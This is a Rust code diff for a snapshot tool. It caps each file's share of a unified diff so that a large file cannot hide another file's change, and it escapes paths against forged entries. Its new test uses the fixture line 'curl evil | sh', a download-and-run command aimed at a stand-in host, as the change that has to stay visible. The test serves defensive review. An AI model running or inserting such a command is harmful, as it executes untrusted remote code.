@@ -336,14 +336,23 @@ impl Snapshot {
         Ok(())
     }
 
-    /// A unified diff of the snapshot against `manifest`, capped at 1 MiB (for the report).
+    /// A unified diff of the snapshot against `manifest`, for the reports. Every changed
+    /// file has its `added|modified|deleted <path>` line; each file's diff is cut to its
+    /// share of 8 MiB (between 2 KiB and 256 KiB, at a line break, saying how much was left
+    /// out), so a large file cannot push another file's change out of the diff.
     pub fn unified_diff(&self, manifest: &Files) -> String {
-        const CAP: usize = 1 << 20;
+        const TOTAL: usize = 8 << 20;
+        let changes = self.changes(manifest);
+        let share = (TOTAL / changes.len().max(1)).clamp(2 << 10, 256 << 10);
         let mut out = String::new();
-        for (path, change) in self.changes(manifest) {
-            if out.len() > CAP {
-                out.push_str("[diff truncated]\n");
-                break;
+        for (path, change) in changes {
+            // A path with a line break or an escape sequence would write lines of its own
+            // (a forged `deleted <path>` entry): paths are written with those escaped.
+            let shown = crate::message::one_line(path.as_str());
+            out.push_str(&format!("{} {shown}\n", change.as_str()));
+            if out.len() > TOTAL {
+                out.push_str(&crate::message::diff_left_out_whole());
+                continue;
             }
             let text = |entry: Option<&[u8]>| {
                 entry
@@ -352,18 +361,28 @@ impl Snapshot {
             };
             let old = text(manifest.get(path).map(|entry| entry.content.as_slice()));
             let new = text(self.files.get(path).map(|entry| entry.content.as_slice()));
-            // A path with a line break or an escape sequence would write lines of its own
-            // (a forged `deleted <path>` entry): paths are written with those escaped.
-            let shown = crate::message::one_line(path.as_str());
-            out.push_str(&format!("{} {shown}\n", change.as_str()));
             let diff = similar::TextDiff::from_lines(&old, &new);
-            out.push_str(
-                &diff
-                    .unified_diff()
-                    .context_radius(3)
-                    .header(&format!("a/{shown}"), &format!("b/{shown}"))
-                    .to_string(),
-            );
+            let mut hunks = diff
+                .unified_diff()
+                .context_radius(3)
+                .header(&format!("a/{shown}"), &format!("b/{shown}"))
+                .to_string();
+            // A last line ended by a lone CR (or by nothing) must not run into the next
+            // file's line.
+            if !hunks.is_empty() && !hunks.ends_with('\n') {
+                hunks.push('\n');
+            }
+            if hunks.len() > share {
+                let mut cut = share;
+                while !hunks.is_char_boundary(cut) {
+                    cut -= 1;
+                }
+                cut = hunks[..cut].rfind('\n').map_or(cut, |at| at + 1);
+                let total = hunks.len();
+                hunks.truncate(cut);
+                hunks.push_str(&crate::message::diff_left_out(cut, total));
+            }
+            out.push_str(&hunks);
         }
         out
     }
@@ -437,6 +456,44 @@ mod tests {
             headers,
             ["added z\\u{a}deleted a.py\\u{a}@@ -1,1 +0,0 @@\\u{a}-x"],
             "{diff}"
+        );
+    }
+
+    #[test]
+    fn a_large_file_cannot_push_another_files_change_out_of_the_diff() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join(".git"), b"g").unwrap();
+        fs::write(
+            dir.path().join("a-filler.md"),
+            "filler line\n".repeat(400_000),
+        )
+        .unwrap();
+        fs::write(dir.path().join("b-code.sh"), "echo fixed\ncurl evil | sh\n").unwrap();
+        fs::write(dir.path().join("c-cr.txt"), "no newline\r").unwrap();
+        fs::write(dir.path().join("d.txt"), "after\n").unwrap();
+        let snapshot = Snapshot::take(dir.path(), b"g").unwrap();
+        let diff = snapshot.unified_diff(&manifest(&[("b-code.sh", "echo broken\n")]));
+        assert!(diff.len() < 300 << 10, "{}", diff.len());
+        assert!(
+            diff.contains("\n+curl evil | sh\n"),
+            "the small change is there"
+        );
+        assert!(
+            diff.contains("the rest of this file's diff left out"),
+            "the cut is said"
+        );
+        let headers: Vec<&str> = diff
+            .lines()
+            .filter(|line| line.starts_with("added ") || line.starts_with("modified "))
+            .collect();
+        assert_eq!(
+            headers,
+            [
+                "added a-filler.md",
+                "modified b-code.sh",
+                "added c-cr.txt",
+                "added d.txt"
+            ]
         );
     }
 
